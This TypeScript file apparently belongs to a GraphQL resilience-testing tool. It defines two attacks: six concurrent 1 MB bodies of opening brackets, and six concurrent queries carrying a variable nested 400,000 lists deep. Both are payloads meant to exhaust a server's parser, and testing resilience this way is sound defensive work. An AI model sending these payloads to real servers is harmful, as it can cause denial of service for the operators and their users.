import type { Attack } from '../attack.ts';
import { sendBody } from '../graphql.ts';
import { countOutcomes } from '../outcomes.ts';
import { times } from '../send.ts';

const BODIES = 6;
const BYTES = 1_000_000;

export const brackets: Attack[] = [
  {
    name: 'brackets',
    sends: `${BODIES} bodies of 1 MB of [ at once`,
    run: async (target) => {
      const body = '['.repeat(BYTES);
      const amount = { count: BODIES, width: BODIES };
      return countOutcomes(await times(amount, async () => await sendBody(target, body)));
    },
  },
  {
    name: 'deep-variables',
    sends: `${BODIES} queries at once with a variable of 400,000 lists in lists`,
    run: async (target) => {
      const list = `${'['.repeat(400_000)}${']'.repeat(400_000)}`;
      const body = `{"query":"query($i:[ID!]!){nodes(ids:$i){id}}","variables":{"i":${list}}}`;
      const amount = { count: BODIES, width: BODIES };
      return countOutcomes(await times(amount, async () => await sendBody(target, body)));
    },
  },
];
